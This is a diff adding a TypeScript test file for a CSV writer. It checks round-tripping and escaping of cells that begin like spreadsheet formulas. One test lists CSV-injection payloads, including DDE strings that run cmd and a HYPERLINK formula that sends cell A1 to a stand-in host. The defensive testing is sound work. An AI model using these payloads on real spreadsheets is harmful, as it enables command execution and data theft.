@@ -1,0 +1,74 @@
+import * as fc from 'fast-check';
+import { expect, test } from 'vitest';
+import { csvLine, csvStart } from './csv.ts';
+
+/** A strict reader of RFC 4180 with quoted cells, written apart from the writer. */
+function readCsv(text: string): string[][] {
+  const lines: string[][] = [[]];
+  let at = 0;
+  while (at < text.length) {
+    if (text[at] !== '"') throw new Error(`no quoted cell at ${at}`);
+    let cell = '';
+    for (at += 1; text[at] !== '"' || text[at + 1] === '"'; at += 1) {
+      if (at >= text.length) throw new Error('open quote');
+      if (text[at] === '"') at += 1;
+      cell += text[at];
+    }
+    lines.at(-1)?.push(cell);
+    at += 1;
+    if (text[at] === ',') at += 1;
+    else if (text.startsWith('\r\n', at)) {
+      at += 2;
+      lines.push([]);
+    } else throw new Error(`neither comma nor line end at ${at}`);
+  }
+  return lines.slice(0, -1);
+}
+
+const cell = fc.oneof(
+  fc.string({ unit: 'grapheme' }),
+  fc.string({ unit: fc.constantFrom('"', ',', '\r', '\n', '\t', ';', '=', '+', '-', '@', "'", 'a', '＝') }),
+);
+const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { maxLength: 5 });
+
+test('what is written is what is read, but for the apostrophe before a formula', () => {
+  fc.assert(
+    fc.property(table, (rows) => {
+      const read = readCsv(rows.map(csvLine).join(''));
+      expect(
+        read.map((cells) => cells.map((text) => text.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))),
+      ).toEqual(rows.map((cells) => cells.map((text) => text.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/, ''))));
+    }),
+  );
+});
+
+test('no cell begins like a formula', () => {
+  fc.assert(
+    fc.property(table, (rows) => {
+      for (const text of readCsv(rows.map(csvLine).join('')).flat())
+        expect(text).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+    }),
+  );
+});
+
+/** From the OWASP page on CSV injection and published exploits. */
+test.each([
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://jahat.example/?x="&A1,"Klik")',
+  '+1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+])('%j is a text to a spreadsheet', (text) => {
+  expect(readCsv(csvLine([text, 'lain']))).toEqual([[`'${text}`, 'lain']]);
+});
+
+test('ordinary text is left alone', () => {
+  expect(csvLine(['Siti "Rahma"', 'a,b', '', "o'clock", 'x=1'])).toBe(
+    '"Siti ""Rahma""","a,b","","o\'clock","x=1"\r\n',
+  );
+  expect(csvStart).toBe('\u{FEFF}');
+});
